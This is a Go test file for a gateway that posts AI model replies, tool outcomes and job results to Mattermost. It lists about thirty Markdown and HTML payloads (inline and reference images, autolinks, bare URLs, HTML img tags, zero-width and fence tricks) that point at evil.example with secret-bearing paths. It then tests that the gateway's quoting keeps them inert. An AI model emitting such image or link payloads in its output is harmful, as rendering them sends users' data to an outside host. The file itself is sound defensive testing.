package gatewayd

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"boxmaker/wire"
)

// imageAttacks are the ways a reply could make a Mattermost client or the
// server fetch a URL (issue 23, finding 2): every form of image, link,
// autolink, bare URL, HTML and preview bait Mattermost renders, and tricks
// meant to get one past a neutraliser.
var imageAttacks = map[string]string{
	"inline image":               "![a](https://evil.example/s3cr3t.png)",
	"image with title":           `![a](https://evil.example/x.png "title")`,
	"reference image":            "![a][r]\n\n[r]: https://evil.example/x.png",
	"reference image, collapsed": "![r][]\n\n[r]: https://evil.example/x.png",
	"shortcut reference image":   "![r]\n\n[r]: <https://evil.example/x.png>",
	"link around an image":       "[![a](https://evil.example/i.png)](https://evil.example/l)",
	"inline link":                "[docs](https://evil.example/s3cr3t)",
	"autolink":                   "<https://evil.example/s3cr3t>",
	"email autolink":             "<s3cr3t@evil.example>",
	"bare URL (link preview)":    "see https://evil.example/s3cr3t for more",
	"bare www":                   "www.evil.example/s3cr3t",
	"bare domain with path":      "evil.example/s3cr3t",
	"HTML img":                   `<img src="https://evil.example/x.png">`,
	"HTML block":                 "<div>\n<img src=https://evil.example/x.png>\n</div>",
	"escaped bang":               `\![a](https://evil.example/x.png)`,
	"escaped backslash":          `\\![a](https://evil.example/x.png)`,
	"entities":                   "&#33;&#91;a&#93;(https://evil.example/x.png) &lt;img src=x&gt;",
	"zero-width joiner":          "!\u200b[a](https://evil.example/x.png) ht\u200btp://evil.example",
	"code span that ends early":  "`a` ![a](https://evil.example/x.png) ``b``",
	"backtick runs":              "```` ``` `` ` ![a](https://evil.example/x.png) ```````",
	"own fence":                  "```\n```text\n![a](https://evil.example/x.png)\n```",
	"tilde fence":                "~~~\n![a](https://evil.example/x.png)\n~~~",
	"URL split across lines":     "![a](https://evil.\nexample/x.png)\nhttps://evil\n.example/x",
	"carriage returns":           "x\r# ![a](https://evil.example/x.png)\r\n```\r![b](https://evil.example/y.png)",
	"symbol for newline":         "x\u2424# ![a](https://evil.example/x.png)\u2424```",
	"nested in a list":           "- [ ] ![a](https://evil.example/x.png)\n  > ![b](https://evil.example/y.png)",
	"table":                      "| a | b |\n|---|---|\n| ![a](https://evil.example/x.png) | <https://evil.example> |",
	"emphasis around it":         "_a_ ![a](https://evil.example/x.png) _b_ **![c](https://evil.example/y.png)**",
	"indented code then image":   "    code\n\n![a](https://evil.example/x.png)",
	"long backtick run":          strings.Repeat("`", 5000) + "![a](https://evil.example/x.png)",
}

// tricks are the attacks that are not forms of their own, but ways past a
// neutraliser, and the forms only the web client's Markdown renders (it
// links evil.example/path, and U+2424 is a line break to it): unquoted,
// the renderer here shows some of them as text.
var tricks = map[string]bool{"entities": true, "zero-width joiner": true, "escaped bang": true, "carriage returns": true,
	"symbol for newline": true, "long backtick run": true, "indented code then image": true, "own fence": true,
	"backtick runs": true, "tilde fence": true, "bare domain with path": true, "URL split across lines": true}

// mattermostMarkdown is a CommonMark renderer with the GitHub extensions
// Mattermost renders (tables, strikethrough, task lists, autolinked bare
// URLs and www.).
var mattermostMarkdown = goldmark.New(goldmark.WithExtensions(extension.GFM))

// liveNodes lists what in post would render as something other than text
// or code: an image, a link, an autolink, raw HTML.
func liveNodes(post string) []string {
	src := []byte(post)
	var live []string
	_ = ast.Walk(mattermostMarkdown.Parser().Parse(text.NewReader(src)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n.Kind() {
		case ast.KindImage, ast.KindLink, ast.KindAutoLink, ast.KindRawHTML, ast.KindHTMLBlock, ast.KindLinkReferenceDefinition:
			live = append(live, n.Kind().String())
		}
		return ast.WalkContinue, nil
	})
	return live
}

// Without quoting, every attack renders: the renderer sees what a client
// would.
func TestImageAttacksRenderWhenUnquoted(t *testing.T) {
	for name, attack := range imageAttacks {
		if tricks[name] {
			continue
		}
		if len(liveNodes(attack)) == 0 {
			t.Errorf("%s: %q renders nothing live even unquoted; the renderer is not the one the attacks need", name, attack)
		}
	}
}

// postsOf is every post gatewayd makes of untrusted text: a model's reply
// streamed and final, a failed turn, a tool's outcome, a job's reply and a
// job's failure.
func postsOf(s string) map[string][]string {
	streaming := &reply{tools: []toolLine{{tool: s, args: s, outcome: s}}}
	streaming.text.WriteString(s)
	done := &reply{}
	done.finish(s, nil)
	failed := &reply{}
	failed.text.WriteString(s)
	failed.finish("", errors.New(s))
	at, _ := wire.TimestampOf(time.Date(2026, 12, 1, 6, 0, 0, 0, time.UTC))
	job := wire.JobDelivery{Job: s, Trigger: wire.TriggerSchedule, Scheduled: at, Outcome: wire.RunOK, Content: s}
	jobFailed := job
	jobFailed.Outcome = wire.RunFailed
	first, _ := streaming.take()
	return map[string][]string{
		"streaming reply": {first}, "final reply": done.final(), "failed turn": failed.final(),
		"tool line": {streaming.toolLines()}, "job reply": jobPosts(job, at.Time()), "job failure": jobPosts(jobFailed, at.Time()),
	}
}

// TestNoImageAttackRendersInAPost: whatever a reply, a tool's outcome or a
// job's reply holds, no post gatewayd makes of it renders an image, a link,
// an autolink or HTML, and each post fits.
func TestNoImageAttackRendersInAPost(t *testing.T) {
	for name, attack := range imageAttacks {
		for where, posts := range postsOf(attack) {
			for i, post := range posts {
				if live := liveNodes(post); len(live) > 0 {
					t.Errorf("%s in a %s: post %d renders %v:\n%s", name, where, i, live, post)
				}
				if n := len([]rune(post)); n > maxPostRunes {
					t.Errorf("%s in a %s: post %d has %d runes", name, where, i, n)
				}
			}
		}
	}
}

// A code span is one line: U+2424, which the web client's Markdown turns
// into a line break, and every other line break are gone from it, so that
// no heading or fence can start inside it.
func TestCodeSpanHoldsOneLine(t *testing.T) {
	for _, s := range []string{"a\u2424# ![x](u)", "a\r# ![x](u)", "a\u2028b\u0085c\vd\fe"} {
		span := codeSpan(oneLine(s, 500))
		if strings.ContainsAny(span, "\n\r\u2424\u2028\u0085\v\f") {
			t.Errorf("codeSpan(oneLine(%q)) = %q holds a line break", s, span)
		}
	}
}

// No emphasis of gatewayd's encloses a quote: a renderer that matches
// emphasis before code spans (the web client's) could end the emphasis
// inside the quote and render what follows.
func TestNoEmphasisAroundAQuote(t *testing.T) {
	const bait = "x_ ** ![a](https://evil.example/x.png) _"
	for where, posts := range postsOf(bait) {
		for _, post := range posts {
			for line := range strings.Lines(post) {
				i := strings.Index(line, "`")
				if i < 0 {
					continue
				}
				before, after := line[:i], line[strings.LastIndex(line, "`")+1:]
				for _, mark := range []string{"_", "*"} {
					if strings.Count(before, mark)%2 == 1 && strings.Contains(after, mark) {
						t.Errorf("%s: emphasis may enclose a quote in %q", where, line)
					}
				}
			}
		}
	}
}

// FuzzQuotedPosts: whatever the text, no post gatewayd makes of it renders
// anything live, and each fits.
func FuzzQuotedPosts(f *testing.F) {
	for _, attack := range imageAttacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for where, posts := range postsOf(s) {
			for i, post := range posts {
				if live := liveNodes(post); len(live) > 0 {
					t.Fatalf("%q in a %s: post %d renders %v:\n%s", s, where, i, live, post)
				}
				if n := len([]rune(post)); n > maxPostRunes {
					t.Fatalf("%q in a %s: post %d has %d runes", s, where, i, n)
				}
			}
		}
	})
}
